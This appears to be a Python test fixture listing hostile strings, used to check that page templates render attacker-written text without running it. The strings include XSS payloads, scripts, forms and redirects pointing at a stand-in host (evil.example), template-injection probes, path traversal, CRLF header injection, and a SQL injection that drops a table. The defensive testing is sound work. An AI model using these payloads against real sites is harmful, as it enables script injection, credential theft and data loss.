"""Text that attackers write, to be put in every place of every page: none of it may do anything.

A page that shows it runs no script (`MARK` stays undefined, no dialog opens, no policy is
violated), has no element or attribute that our templates do not write, and shows the text.
"""

from typing import Final

MARK: Final = "window.__hacked"
_RUN: Final = f"{MARK}=1"

HOSTILE: Final = (
    # markup
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt src=//evil.example>{_RUN}</sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext></math><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>x</marquee>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<form action=//evil.example><button>Log in</button></form>",
    "<plaintext>",
    "<textarea><title><style><xmp>",
    "<!-- <b> --!> <b>",
    "<![CDATA[<b>]]>",
    "</bdi></td></tr></table><h1>owned</h1>",
    "</title></head><body><h1>owned</h1>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    # out of attributes
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}',
    f"' autofocus onfocus='{_RUN}",
    f"x` onclick=`{_RUN}`",
    '" style="position:fixed;inset:0;background:red',
    # entities that must not be read twice
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &#60;b&#62; &#x3c;b&#x3e; &nbsp;&copy",
    # template languages
    "{{ 7*7 }} {% for x in () %} {# a #}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7)",
    "%s %(x)s {0} {x!r}",
    # addresses
    f"javascript:{_RUN}",
    f"  jAvAsCrIpT:{_RUN}//",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "//evil.example/x",
    'https://evil.example/?"onclick=1',
    f"[click](javascript:{_RUN})",
    f'![x](x"onerror="{_RUN})',
    "../../etc/passwd",
    "%2e%2e%2f%00%0d%0aSet-Cookie:x=1",
    # styles
    "</style><style>*{display:none}</style>",
    "expression(alert(1)); url(//evil.example); @import '//evil.example'",
    # characters
    "\u202egnp.exe\u202d abc \u2066\u2069",
    "\u2068\u2067\u202b never closed",
    "a\u200bb\u200cc\u200d\ufeffd\u00ad",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "مرحبا بالعالم ‮ left",
    "שלום עולם",
    "👩‍👩‍👧‍👦🏳️‍🌈🇺🇳👍🏽",
    "\ud7ff\ue000\ufffd\U0010ffff",
    "line\u2028break\u2029here",
    "nul\0bell\x07esc\x1b[31mred\x7fdel",
    "a\r\nb\tc\x0bd\x0ce",
    # sizes
    "w" * 5_000,
    "<b>" * 2_000,
    "&" * 3_000,
    "' OR 1=1; DROP TABLE sessions; --",
)
